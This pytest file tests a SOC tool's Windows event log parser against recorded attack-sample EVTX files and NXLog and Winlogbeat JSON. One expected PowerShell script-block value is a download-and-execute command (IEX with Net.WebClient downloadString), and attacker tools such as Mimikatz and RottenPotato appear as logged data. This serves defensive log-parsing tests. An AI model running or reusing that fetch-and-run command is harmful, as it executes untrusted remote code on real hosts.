"""The Windows event parser against the real EVTX corpus and its JSON twins."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import timedelta, timezone
from pathlib import Path
from typing import Any

import evtx
import orjson
import pytest

from collectors.parsing import ParseError, SourceContext
from collectors.pipeline import RawMessage, parse_message
from collectors.windows.parse import dataset_for_channel, parse
from socmon.corpus import corpus_dir

CTX = SourceContext()
MITRE = "evtx/EVTX-to-MITRE-Attack"
FAILED_LOGON = "evtx/DeepBlueCLI/smb-password-guessing-security.evtx"
ROTTEN_POTATO = f"{MITRE}/TA0004-Privilege Escalation/T1134-Access Token Manipulation/ID4688,4624-RottenPotatoNG.evtx"
SYSMON_NET = f"{MITRE}/TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded (CME+Mimikatz).evtx"
SYSMON_PROC = f"{MITRE}/TA0002-Execution/T1047-Windows Management Instrumentation/ID1-WMIexec process execution.evtx"
POWERSHELL = f"{MITRE}/TA0002-Execution/T1059.001-PowerShell/ID4103-4104-Payload download via PowerShell.evtx"
SERVICE = f"{MITRE}/TA0003-Persistence/T1543.003-Create or Modify System Process-Windows Service/ID7045-Random service installation.evtx"
APPLICATION = "evtx/DeepBlueCLI/many-events-application.evtx"
CAPI = f"{MITRE}/TA0006-Credential Access/T1552.004-Unsecured Credentials-Private Keys/ID70-CAPI-Private key accessed Mimikatz.evtx"


@pytest.fixture(scope="module")
def corpus() -> Path:
    base = corpus_dir()
    if base is None:
        pytest.skip("test corpus not found (set SOCMON_CORPUS or place shared/corpus)")
    return base


def records(path: Path) -> Iterator[tuple[int, str]]:
    for rec in evtx.PyEvtxParser(str(path), indent=False).records_json():
        assert rec is not None
        yield rec["event_record_id"], rec["data"]


def record(corpus: Path, rel: str, record_id: int) -> dict[str, Any]:
    """The parsed event whose System/EventRecordID is `record_id` (the number Windows gave it;
    exported files renumber their record headers from 1)."""
    for _rid, data in records(corpus / rel):
        doc = parse(data, CTX)
        if doc["winlog"].get("record_id") == record_id:
            return doc
    raise AssertionError(f"record {record_id} not in {rel}")


def json_objects(path: Path) -> list[str]:
    """The concatenated (pretty-printed) JSON objects of a SigmaHQ regression sample."""
    text = path.read_text(encoding="utf-8")
    decoder = json.JSONDecoder()
    out: list[str] = []
    i = 0
    while True:
        while i < len(text) and text[i].isspace():
            i += 1
        if i >= len(text):
            return out
        _, end = decoder.raw_decode(text, i)
        out.append(text[i:end])
        i = end


# --------------------------------------------------------------------------- hand-checked


def test_security_4625_failed_logon(corpus: Path) -> None:
    doc = record(corpus, FAILED_LOGON, 2455)
    assert doc["@timestamp"] == "2016-09-19T16:50:06.477878Z"
    assert doc["event"]["code"] == "4625"
    assert doc["event"]["provider"] == "Microsoft-Windows-Security-Auditing"
    assert doc["event"]["kind"] == "event"
    assert doc["event"]["module"] == "security"
    assert doc["event"]["dataset"] == "windows.security"
    assert doc["event"]["outcome"] == "failure"
    assert doc["host"]["name"] == "DESKTOP-M5SN04R"
    assert doc["log"]["level"] == "information"
    w = doc["winlog"]
    assert w["channel"] == "Security"
    assert w["event_id"] == 4625
    assert w["record_id"] == 2455
    assert w["computer_name"] == "DESKTOP-M5SN04R"
    assert w["provider_guid"] == "{54849625-5478-4994-A5BA-3E3B0328C30D}"
    assert w["process"] == {"pid": 752, "thread": {"id": 4068}}
    assert w["activity_id"] == "{B864D168-0B7B-0000-89D1-64B87B0BD201}"
    assert w["keywords"] == ["Audit Failure"]
    data = w["event_data"]
    assert data["TargetUserName"] == "JcDfcZTc"
    assert data["TargetDomainName"] == "."
    assert data["IpAddress"] == "192.168.198.149"
    assert data["IpPort"] == "50249"
    assert data["LogonType"] == "3"  # a number in the EVTX, a string as in Winlogbeat
    assert data["KeyLength"] == "0"
    assert data["Status"] == "0xc000006d" and data["SubStatus"] == "0xc0000064"
    assert data["WorkstationName"] == "6hgtmVlrrFuWtO65"
    assert data["LogonProcessName"] == "NtLmSsp "  # trailing space kept, as Windows wrote it
    assert len(data) == 21
    assert orjson.loads(doc["event"]["original"])["Event"]["System"]["EventRecordID"] == 2455
    assert "message" not in doc  # no rendered message in an EVTX file


def test_security_4624_and_4688_and_1102(corpus: Path) -> None:
    logon = record(corpus, ROTTEN_POTATO, 1122931)
    assert logon["event"]["code"] == "4624" and logon["event"]["outcome"] == "success"
    assert logon["winlog"]["keywords"] == ["Audit Success"]
    data = logon["winlog"]["event_data"]
    assert data["TargetUserName"] == "ANONYMOUS LOGON"
    assert data["LogonType"] == "3" and data["IpAddress"] == "127.0.0.1"
    assert data["WorkstationName"] == ""  # empty items are kept
    assert data["ImpersonationLevel"] == "%%1833"

    proc = record(corpus, ROTTEN_POTATO, 1122930)
    assert proc["event"]["code"] == "4688"
    assert proc["winlog"]["event_data"]["NewProcessName"] == "C:\\TOOLS\\MSFRottenPotato.exe"
    assert proc["winlog"]["event_data"]["CommandLine"] == "MSFRottenPotato.exe"
    assert proc["winlog"]["event_data"]["NewProcessId"] == "0x105c"
    assert proc["winlog"]["version"] == 1

    cleared = record(corpus, ROTTEN_POTATO, 1122929)
    assert cleared["event"]["code"] == "1102"
    assert cleared["winlog"]["provider_guid"] == "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}"
    assert "event_data" not in cleared["winlog"]
    assert cleared["winlog"]["user_data"] == {
        "xml_name": "LogFileCleared",
        "SubjectUserSid": "S-1-5-21-4230534742-2542757381-3142984815-1234",
        "SubjectUserName": "hack1",
        "SubjectDomainName": "OFFSEC",
        "SubjectLogonId": "0x767a7ed",
    }


def test_sysmon_1_and_3(corpus: Path) -> None:
    net = record(corpus, SYSMON_NET, 48104)
    assert net["event"]["code"] == "3"
    assert net["event"]["module"] == "sysmon"
    assert net["event"]["dataset"] == "windows.sysmon_operational"
    assert net["winlog"]["channel"] == "Microsoft-Windows-Sysmon/Operational"
    assert net["winlog"]["user"] == {"identifier": "S-1-5-18"}
    assert net["log"]["level"] == "information"
    assert "outcome" not in net["event"]
    data = net["winlog"]["event_data"]
    assert data["Initiated"] == "true" and data["SourceIsIpv6"] == "false"
    assert data["SourceIp"] == "10.23.42.38" and data["SourcePort"] == "62095"
    assert data["DestinationIp"] == "10.23.123.11" and data["DestinationPort"] == "443"
    assert data["Image"] == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    assert data["User"] == "OFFSEC\\admmig"

    proc = record(corpus, SYSMON_PROC, 191969)
    assert proc["event"]["code"] == "1"
    assert proc["@timestamp"] == "2021-04-26T15:03:05.992230Z"
    data = proc["winlog"]["event_data"]
    assert (
        data["CommandLine"]
        == "C:\\Windows\\system32\\cmd.exe  /Q /c C:\\Windows\\TEMP\\execute.bat "
    )
    assert data["ParentImage"] == "C:\\Windows\\System32\\cmd.exe"
    assert data["OriginalFileName"] == "Cmd.Exe"
    assert data["TerminalSessionId"] == "0" and data["ProcessId"] == "3068"


def test_powershell_4104_and_4103(corpus: Path) -> None:
    block = record(corpus, POWERSHELL, 83421)
    assert block["event"]["code"] == "4104"
    assert block["event"]["module"] == "powershell"
    assert block["event"]["dataset"] == "windows.powershell_operational"
    assert block["log"]["level"] == "verbose"
    assert block["winlog"]["activity_id"] == "{3F0C7A49-E4FD-0001-0094-0940FDE4D701}"
    assert block["winlog"]["event_data"] == {
        "MessageNumber": "1",
        "MessageTotal": "1",
        "ScriptBlockText": "\"IEX(New-Object Net.WebClient).downloadString('https://miro.medium.com/max/1400/1*FnPDYeZVrGTbuE7Lj7JhgQ.png')\"",
        "ScriptBlockId": "965150b4-b107-4cce-9d30-1d3c55a8a085",
    }
    module_log = record(corpus, POWERSHELL, 83422)
    context = module_log["winlog"]["event_data"]["ContextInfo"]
    # Windows line endings as Winlogbeat writes them: CRLF -> LF, no trailing newline.
    assert "\r" not in context and not context.endswith("\n")
    assert (
        "        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\n"
        in context
    )
    assert module_log["winlog"]["event_data"]["UserData"] == ""


def test_system_7045_with_qualifiers(corpus: Path) -> None:
    doc = record(corpus, SERVICE, 9459)
    assert doc["event"]["code"] == "7045" and doc["winlog"]["event_id"] == 7045
    assert doc["event"]["dataset"] == "windows.system"
    assert "module" not in doc["event"]  # Winlogbeat sets none for the System channel
    assert doc["event"]["provider"] == "Service Control Manager"
    assert doc["winlog"]["provider_guid"] == "{555908D1-A6D7-4695-8E1E-26931D2012F4}"
    assert doc["winlog"]["keywords"] == ["Classic"]
    assert doc["winlog"]["event_data"] == {
        "ServiceName": "bad-task",
        "ImagePath": "virusé.exe",
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    }
    cleared = record(corpus, SERVICE, 9458)
    assert cleared["winlog"]["user_data"]["BackupPath"] == ""
    assert cleared["winlog"]["user_data"]["Channel"] == "System"


def test_unnamed_data_items_become_params(corpus: Path) -> None:
    doc = record(corpus, APPLICATION, 7)
    assert doc["event"]["dataset"] == "windows.application"
    assert doc["event"]["code"] == "1004"
    assert doc["winlog"]["event_data"] == {
        "param1": "Windows(TM) - Component PPD License (DirectExperience)",
        "param2": "63f7d6b3-2b29-5864-50cf-9f7231237dbe",
    }


def test_nested_user_data_is_flattened(corpus: Path) -> None:
    doc = record(corpus, CAPI, 13969076)
    assert doc["event"]["code"] == "70" and doc["event"]["dataset"] == "windows.other"
    assert doc["winlog"]["user_data"] == {
        "xml_name": "CryptAcquireCertificatePrivateKey",
        "Certificate_fileRef": "3CD6B0EFAF68549EFE9ED2316426FCD7FF81A6A8.cer",
        "Certificate_subjectName": "wec02.offsec.lan",
        "Flags_value": "10000",
        "Flags_CRYPT_ACQUIRE_ALLOW_NCRYPT_KEY_FLAG": "true",
        "EventAuxInfo_ProcessName": "mimikatz.exe",
        "CorrelationAuxInfo_TaskId": "{973F48B9-7001-410B-A904-B1DD8692B60A}",
        "CorrelationAuxInfo_SeqNumber": "2",
        "Result_value": "0",
    }


def evtx_json(event_data: Any = None, user_data: Any = None, **system: Any) -> str:
    event: dict[str, Any] = {
        "System": {
            "EventID": 1,
            "Channel": "Application",
            "TimeCreated": {"#attributes": {"SystemTime": "2024-01-02T03:04:05Z"}},
            **system,
        }
    }
    if event_data is not None:
        event["EventData"] = event_data
    if user_data is not None:
        event["UserData"] = user_data
    return orjson.dumps({"Event": event}).decode()


def test_data_item_edge_cases() -> None:
    doc = parse(
        evtx_json(
            {
                "#attributes": {"Name": "EVENT_HIVE_LEAK"},
                "param1": "named",
                "": "no name",
                "Repeated": ["a", 2, True],
                "Text": "line 1\r\nline 2\r\n",
                "Empty": None,
                "Binary": "4E00",
                "Data": {"#text": ["x", "y"]},
            }
        ),
        CTX,
    )
    assert doc["@timestamp"] == "2024-01-02T03:04:05.000000Z"
    assert doc["winlog"]["event_data"] == {
        "param1": "named",
        "Repeated": ["a", "2", "true"],
        "Text": "line 1\nline 2",
        "Empty": "",
        "Binary": "4E00",
        "param2": "no name",
        "param3": "x",
        "param4": "y",
    }
    doc = parse(
        evtx_json(
            user_data={
                "RmRestartEvent": {
                    "#attributes": {"xmlns": "http://example", "xmlns:x": "y", "Kind": 3},
                    "Applications": {"Application": "A", "Application_1": "B"},
                    "Files": {"File": None},
                }
            }
        ),
        CTX,
    )
    assert doc["winlog"]["user_data"] == {
        "xml_name": "RmRestartEvent",
        "Kind": "3",
        "Applications_Application": "A",
        "Applications_Application_1": "B",
        "Files_File": "",
    }
    text_only = parse(evtx_json(user_data={"Note": {"#text": "hello"}}), CTX)
    assert text_only["winlog"]["user_data"] == {"xml_name": "Note", "Note": "hello"}


def test_forwarded_event_rendering_info() -> None:
    """Events forwarded by WEF as RenderedText carry the rendered message, level and names."""
    message = orjson.loads(
        evtx_json({"TargetUserName": "bob"}, EventID=4625, Channel="Security", Level=0)
    )
    message["Event"]["RenderingInfo"] = {
        "#attributes": {"Culture": "en-US"},
        "Message": "An account failed to log on.\r\n",
        "Level": "Information",
        "Task": "Logon",
        "Opcode": "Info",
        "Keywords": {"Keyword": "Audit Failure"},
    }
    doc = parse(orjson.dumps(message).decode(), CTX)
    assert doc["message"] == "An account failed to log on."
    assert doc["log"]["level"] == "information"
    assert doc["winlog"]["task"] == "Logon" and doc["winlog"]["opcode"] == "Info"
    assert doc["winlog"]["keywords"] == ["Audit Failure"]
    assert doc["event"]["outcome"] == "failure"


# --------------------------------------------------------------------------- whole corpus


def test_every_corpus_record_parses(corpus: Path) -> None:
    """Every record of every EVTX file in the corpus: one ECS document, invariants hold."""
    problems: list[str] = []
    count = 0
    datasets: set[str] = set()
    for path in sorted((corpus / "evtx").rglob("*.evtx")):
        for rid, data in records(path):
            count += 1
            where = f"{path.relative_to(corpus)}#{rid}"
            try:
                doc = parse(data, CTX)
            except ParseError as e:
                problems.append(f"{where}: {e}")
                continue
            w = doc["winlog"]
            datasets.add(doc["event"]["dataset"])
            if doc["event"]["code"] != str(w["event_id"]):
                problems.append(f"{where}: event.code {doc['event']['code']}")
            if doc["event"]["dataset"] != dataset_for_channel(w.get("channel")):
                problems.append(f"{where}: dataset {doc['event']['dataset']}")
            if not doc.get("@timestamp", "").endswith("Z"):
                problems.append(f"{where}: @timestamp {doc.get('@timestamp')}")
            for section in ("event_data", "user_data"):
                for key, value in w.get(section, {}).items():
                    ok = isinstance(value, str) or (
                        isinstance(value, list) and all(isinstance(v, str) for v in value)
                    )
                    if not ok or not key:
                        problems.append(f"{where}: {section}.{key} = {value!r}")
    assert not problems, "\n".join(problems[:50])
    assert count > 16_000
    assert {
        "windows.security",
        "windows.system",
        "windows.application",
        "windows.sysmon_operational",
        "windows.powershell",
        "windows.powershell_operational",
        "windows.other",
    } <= datasets


def test_sigma_regression_json_twins_match_their_evtx(corpus: Path) -> None:
    """The JSON samples (pretty-printed evtx JSON, several objects per file) give the same
    documents as their EVTX twins. The JSON was written by another tool that trims trailing
    spaces of values (and once differs in case), so values are compared modulo those."""
    twins = sorted((corpus / "sigma" / "regression_data").rglob("*.json"))
    assert len(twins) > 150
    problems: list[str] = []
    objects = 0
    for path in twins:
        from_evtx = {}
        for _rid, data in records(path.with_suffix(".evtx")):
            doc = parse(data, CTX)
            from_evtx[doc["winlog"]["record_id"]] = doc
        texts = json_objects(path)
        if len(texts) != len(from_evtx):
            problems.append(f"{path.name}: {len(texts)} objects, {len(from_evtx)} records")
        for text in texts:
            objects += 1
            doc = parse(text, CTX)
            twin = from_evtx.get(doc["winlog"]["record_id"])
            if twin is None:
                problems.append(f"{path.name}: record {doc['winlog']['record_id']} missing")
                continue
            for key in ("@timestamp", "host", "log"):
                if doc.get(key) != twin.get(key):
                    problems.append(f"{path.name}: {key} {doc.get(key)} != {twin.get(key)}")
            for doc_part, twin_part in (
                (doc["event"], twin["event"]),
                (doc["winlog"], twin["winlog"]),
            ):
                for key in set(doc_part) | set(twin_part):
                    if key in ("original", "event_data"):
                        continue
                    if doc_part.get(key) != twin_part.get(key):
                        problems.append(f"{path.name}: {key} differs")
            a, b = doc["winlog"].get("event_data", {}), twin["winlog"].get("event_data", {})
            if set(a) != set(b):
                problems.append(f"{path.name}: event_data names {sorted(set(a) ^ set(b))}")
            for key in set(a) & set(b):
                if str(a[key]).rstrip().lower() != str(b[key]).rstrip().lower():
                    problems.append(f"{path.name}: event_data.{key}")
    assert not problems, "\n".join(problems[:50])
    assert objects > 200


# --------------------------------------------------------------------------- NXLog, Winlogbeat

NXLOG_4625 = {
    "EventTime": "2016-09-19 18:50:06",
    "Hostname": "DESKTOP-M5SN04R",
    "Keywords": -9218868437227405312,  # 0x8010000000000000 as NXLog prints it (signed)
    "EventType": "AUDIT_FAILURE",
    "SeverityValue": 4,
    "Severity": "ERROR",
    "EventID": 4625,
    "SourceName": "Microsoft-Windows-Security-Auditing",
    "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
    "Version": 0,
    "Task": 12544,
    "OpcodeValue": 0,
    "RecordNumber": 2455,
    "ActivityID": "{B864D168-0B7B-0000-89D1-64B87B0BD201}",
    "ProcessID": 752,
    "ThreadID": 4068,
    "Channel": "Security",
    "Message": "An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0",
    "Category": "Logon",
    "Opcode": "Info",
    "SubjectUserSid": "S-1-0-0",
    "TargetUserName": "JcDfcZTc",
    "TargetDomainName": ".",
    "Status": "0xc000006d",
    "LogonType": "3",
    "IpAddress": "192.168.198.149",
    "IpPort": "50249",
    "KeyLength": 0,
    "EventReceivedTime": "2016-09-19 18:50:07",
    "SourceModuleName": "eventlog",
    "SourceModuleType": "im_msvistalog",
}


def test_nxlog_json() -> None:
    line = orjson.dumps(NXLOG_4625).decode()
    ctx = SourceContext(tz=timezone(timedelta(hours=2)))
    doc = parse(line, ctx)
    assert doc["@timestamp"] == "2016-09-19T16:50:06.000000Z"  # EventTime is local time
    assert doc["event"]["code"] == "4625" and doc["event"]["outcome"] == "failure"
    assert doc["event"]["dataset"] == "windows.security" and doc["event"]["module"] == "security"
    assert doc["event"]["provider"] == "Microsoft-Windows-Security-Auditing"
    assert doc["host"]["name"] == "DESKTOP-M5SN04R"
    assert doc["log"]["level"] == "error"
    assert doc["message"].startswith("An account failed to log on.\n\nSubject:")
    w = doc["winlog"]
    assert w["channel"] == "Security" and w["event_id"] == 4625 and w["record_id"] == 2455
    assert w["process"] == {"pid": 752, "thread": {"id": 4068}}
    assert w["keywords"] == ["Audit Failure"]
    assert w["task"] == "Logon" and w["opcode"] == "Info"
    assert w["event_data"] == {
        "SubjectUserSid": "S-1-0-0",
        "TargetUserName": "JcDfcZTc",
        "TargetDomainName": ".",
        "Status": "0xc000006d",
        "LogonType": "3",
        "IpAddress": "192.168.198.149",
        "IpPort": "50249",
        "KeyLength": "0",
    }
    assert doc["event"]["original"] == line
    # ProviderName instead of SourceName, no time zone: UTC.
    variant = {k: v for k, v in NXLOG_4625.items() if k != "SourceName"}
    variant["ProviderName"] = "Microsoft-Windows-Security-Auditing"
    doc = parse(orjson.dumps(variant).decode(), CTX)
    assert doc["winlog"]["provider_name"] == "Microsoft-Windows-Security-Auditing"
    assert doc["@timestamp"] == "2016-09-19T18:50:06.000000Z"


WINLOGBEAT_4625 = {
    "@timestamp": "2016-09-19T16:50:06.477Z",
    "agent": {"type": "winlogbeat", "version": "8.13.4", "hostname": "wec01"},
    "event": {
        "code": "4625",
        "kind": "event",
        "provider": "Microsoft-Windows-Security-Auditing",
        "action": "Logon",
        "outcome": "failure",
        "created": "2016-09-19T16:50:07.100Z",
        "original": "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>...</Event>",
    },
    "host": {"name": "wec01", "os": {"family": "windows"}},
    "log": {"level": "information"},
    "message": "An account failed to log on.\n\nSubject:",
    "winlog": {
        "api": "wineventlog",
        "channel": "Security",
        "event_id": "4625",
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "provider_guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}",
        "computer_name": "DESKTOP-M5SN04R",
        "record_id": "2455",
        "process": {"pid": 752, "thread": {"id": 4068}},
        "keywords": ["Audit Failure"],
        "opcode": "Info",
        "task": "Logon",
        "event_data": {
            "TargetUserName": "JcDfcZTc",
            "LogonType": 3,
            "IpAddress": "192.168.198.149",
        },
    },
    "source": {"ip": "192.168.198.149", "port": 50249},
}


def test_winlogbeat_document() -> None:
    line = orjson.dumps(WINLOGBEAT_4625).decode()
    doc = parse(line, CTX)
    assert doc["@timestamp"] == "2016-09-19T16:50:06.477000Z"
    assert doc["event"]["code"] == "4625" and doc["event"]["outcome"] == "failure"
    assert doc["event"]["dataset"] == "windows.security" and doc["event"]["module"] == "security"
    assert doc["event"]["action"] == "Logon"  # the document's other fields are kept
    assert doc["event"]["original"] == line
    assert doc["host"] == {"name": "DESKTOP-M5SN04R", "os": {"family": "windows"}}
    assert doc["agent"]["hostname"] == "wec01"
    assert doc["source"] == {"ip": "192.168.198.149", "port": 50249}
    w = doc["winlog"]
    assert w["event_id"] == 4625 and w["record_id"] == 2455
    assert w["provider_guid"] == "{54849625-5478-4994-A5BA-3E3B0328C30D}"
    assert w["event_data"] == {
        "TargetUserName": "JcDfcZTc",
        "LogonType": "3",
        "IpAddress": "192.168.198.149",
    }
    # The same document with dotted keys (as some exports write it).
    flat = {
        "@timestamp": "2016-09-19T16:50:06.477Z",
        "winlog.channel": "Security",
        "winlog.event_id": 4625,
        "winlog.computer_name": "DESKTOP-M5SN04R",
        "winlog.event_data.TargetUserName": "JcDfcZTc",
        "winlog.event_data.LogonType": "3",
    }
    doc = parse(orjson.dumps(flat).decode(), CTX)
    assert doc["event"]["code"] == "4625" and doc["winlog"]["channel"] == "Security"
    assert doc["winlog"]["event_data"] == {"TargetUserName": "JcDfcZTc", "LogonType": "3"}
    assert doc["host"]["name"] == "DESKTOP-M5SN04R"


# --------------------------------------------------------------------------- failures


@pytest.mark.parametrize(
    ("message", "reason"),
    [
        ("<Event xmlns='...'><System/></Event>", "not a JSON object"),
        ('{"Event": {"System": ', "invalid JSON"),
        ("[1, 2]", "not a JSON object"),
        ('{"hello": "world"}', "JSON without a Windows event"),
        ('{"Event": {"EventData": {}}}', "without a System element"),
        ('{"Event": {"System": {"Channel": "Security"}}}', "without a numeric EventID"),
        ('{"EventID": "abc", "Channel": "Security"}', "without a numeric EventID"),
    ],
)
def test_parse_errors_have_reasons(message: str, reason: str) -> None:
    with pytest.raises(ParseError, match=reason):
        parse(message, CTX)


def test_pipeline_uses_the_windows_parser(corpus: Path) -> None:
    _, data = next(records(corpus / FAILED_LOGON))
    msg = RawMessage(source="evtx:///x.evtx", data=data.encode(), received_at=0.0, parser="windows")
    doc = parse_message(msg)
    assert doc["event"]["dataset"] == "windows.security"
    assert "_parse_failure" not in doc.get("tags", [])
    bad = parse_message(
        RawMessage(source="evtx:///x.evtx", data=b'{"x": 1}', received_at=0.0, parser="windows")
    )
    assert bad["tags"] == ["_parse_failure"]
    assert bad["event"]["dataset"] == "windows.other"
    assert "JSON without a Windows event" in bad["error"]["message"]


def test_file_path_from_the_source_context(corpus: Path) -> None:
    _, data = next(records(corpus / FAILED_LOGON))
    doc = parse(data, SourceContext(extra={"log.file.path": "/exports/sec.evtx"}))
    assert doc["log"] == {"level": "information", "file": {"path": "/exports/sec.evtx"}}
